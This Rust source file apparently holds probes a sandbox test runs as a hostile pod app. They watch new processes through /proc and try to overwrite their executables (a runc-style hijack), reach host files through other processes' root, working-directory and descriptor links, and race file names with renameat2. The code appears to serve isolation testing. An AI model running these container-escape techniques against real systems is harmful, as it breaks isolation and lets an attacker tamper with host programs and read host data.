//! What a hostile app tries.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::Path;

use nix::sys::statvfs::{FsFlags, fstatvfs};

/// What the attack writes over a program.
const MARK: &[u8] = b"#!/hijacked\n";

/// Watches for processes, opens the program of each, and tries to open that for writing until it works (a program that
/// runs is busy) or never can.
pub fn hijack(path: &str) -> std::io::Result<()> {
    let mut log = OpenOptions::new().create(true).append(true).open(path)?;
    let stop = format!("{path}.stop");
    let mine = std::process::id();
    let mut seen = BTreeSet::from([1, mine]);
    let mut held: BTreeMap<u32, (String, File)> = BTreeMap::new();
    let mut last = mine;
    writeln!(log, "ready")?;
    while !Path::new(&stop).exists() {
        // Faster than a list of /proc: the numbers of new processes follow on each other, and the newest is told.
        let load = std::fs::read_to_string("/proc/loadavg")?;
        let newest = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or(last);
        for pid in newest.saturating_sub(8)..=newest {
            if seen.contains(&pid) {
                continue;
            }
            let Ok(program) = File::open(format!("/proc/{pid}/exe")) else { continue };
            let name = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let name = name.split('\0').next().unwrap_or_default();
            let name = name.rsplit('/').next().unwrap_or_default().to_owned();
            let flags = fstatvfs(&program)?.flags();
            let how = if flags.contains(FsFlags::ST_RDONLY) { "read-only" } else { "writable" };
            writeln!(log, "opened {name} {how}")?;
            seen.insert(pid);
            last = newest;
            // Of its neighbours' programs an app with this capability is the master anyway.
            if name != "probe" {
                held.insert(pid, (name, program));
            }
        }
        held.retain(|_, (name, program)| {
            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
            match OpenOptions::new().write(true).open(again).and_then(|mut file| file.write_all(MARK)) {
                Ok(()) => writeln!(log, "wrote {name}").is_err(),
                Err(error) if error.raw_os_error() == Some(nix::libc::ETXTBSY) => true,
                Err(error) => writeln!(log, "refused {name} {error}").is_err(),
            }
        });
    }
    Ok(())
}

/// Watches for processes and tries to get at the host through what each has of it: its root, its working directory, its
/// descriptors. `marker` is a file of the host's that the pod does not have.
pub fn peek(path: &str, marker: &str) -> std::io::Result<()> {
    let mut log = OpenOptions::new().create(true).append(true).open(path)?;
    let stop = format!("{path}.stop");
    let up = "/..".repeat(16);
    let mut said = BTreeSet::new();
    let mut say = |words: String| if said.insert(words.clone()) { writeln!(log, "{words}") } else { Ok(()) };
    say("ready".to_owned())?;
    let mut rounds = 0_u32;
    while !rounds.is_multiple_of(1024) || !Path::new(&stop).exists() {
        rounds = rounds.wrapping_add(1);
        let load = std::fs::read_to_string("/proc/loadavg")?;
        let newest: u32 = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or_default();
        // The next one may be there by now.
        for pid in newest..newest + 3 {
            let at = |place: &str| format!("/proc/{pid}/{place}");
            if File::open(at(&format!("root{marker}"))).is_ok() {
                say(format!("host by the root of {pid}"))?;
            }
            let name = || {
                let words = std::fs::read_to_string(at("cmdline")).unwrap_or_default();
                let words = words.split('\0').next().unwrap_or_default();
                words.rsplit('/').next().unwrap_or_default().to_owned()
            };
            let before = name();
            if before.is_empty() || before == "probe" {
                continue;
            }
            if File::open(at(&format!("cwd{up}{marker}"))).is_ok() {
                say(format!("host by the working directory of {before} {pid}"))?;
            }
            let mut links = Vec::new();
            for fd in std::fs::read_dir(at("fd")).into_iter().flatten().flatten() {
                let number = fd.file_name().to_string_lossy().into_owned();
                if File::open(at(&format!("fd/{number}{up}{marker}"))).is_ok() {
                    say(format!("host by the descriptor {number} of {before} {pid}"))?;
                }
                links.extend(std::fs::read_link(fd.path()).map(|link| format!("{number} {}", link.display())));
            }
            // It may have become another program meanwhile.
            if name() == before {
                say(format!("seen {before} {pid}"))?;
                links.into_iter().try_for_each(|link| say(format!("descriptor of {before} {pid}: {link}")))?;
            }
        }
    }
    Ok(())
}

/// Exchanges two names over and over: renameat2(2).
pub fn exchange(a: &str, b: &str, stop: &str) -> std::io::Result<()> {
    while !Path::new(stop).exists() {
        for _ in 0..1000 {
            rustix::fs::renameat_with(rustix::fs::CWD, a, rustix::fs::CWD, b, rustix::fs::RenameFlags::EXCHANGE)?;
        }
    }
    Ok(())
}
